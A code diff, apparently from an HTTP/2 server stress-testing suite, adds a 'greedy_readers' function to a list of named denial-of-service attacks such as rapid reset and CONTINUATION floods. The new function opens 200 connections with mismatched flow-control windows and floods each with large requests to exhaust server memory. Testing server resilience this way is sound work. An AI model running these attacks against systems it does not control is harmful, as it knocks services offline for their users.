@@ -188,6 +188,23 @@ def slow_readers(target):
             connection.close()
 
 
+def greedy_readers(target):
+    """200 connections with 100 calls each, some 300 MB of answers: every other one has windows of no
+    end and leaves its socket alone, the others have none and read, but get nothing."""
+    wide = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fff0000))
+    connections = [Connection(target.address, receive_buffer=4096,
+                              values={INITIAL_WINDOW_SIZE: 0x7fffffff * (i % 2)})
+                   for i in range(target.many(200))]
+    try:
+        for connection in connections:
+            connection.send(wide + b"".join(call(stream, target.large) for stream in range(1, 201, 2)))
+        ended = sum(connection.closed(0.01) for connection in connections)
+        yield f"{len(connections) - ended} hold, {ended} closed"
+    finally:
+        for connection in connections:
+            connection.close()
+
+
 def no_window(target):
     """A connection with 1,000 calls and a window of no bytes."""
     with Connection(target.address, values={INITIAL_WINDOW_SIZE: 0}) as connection:
@@ -239,7 +256,8 @@ def many_connections(target):
 ATTACKS = [
     rapid_reset, rapid_reset_unknown, made_reset, too_many_streams, continuation_flood, empty_continuations,
     endless_number, endless_text, large_headers, bad_binary, ping_flood, settings_flood, empty_data_flood,
-    window_flood, oversize, large_message, slow_readers, no_window, idle, half_open, many_connections,
+    window_flood, oversize, large_message, slow_readers, greedy_readers,
+    no_window, idle, half_open, many_connections,
 ]
 
 __all__ = ["ATTACKS", "PATH", "Target"]
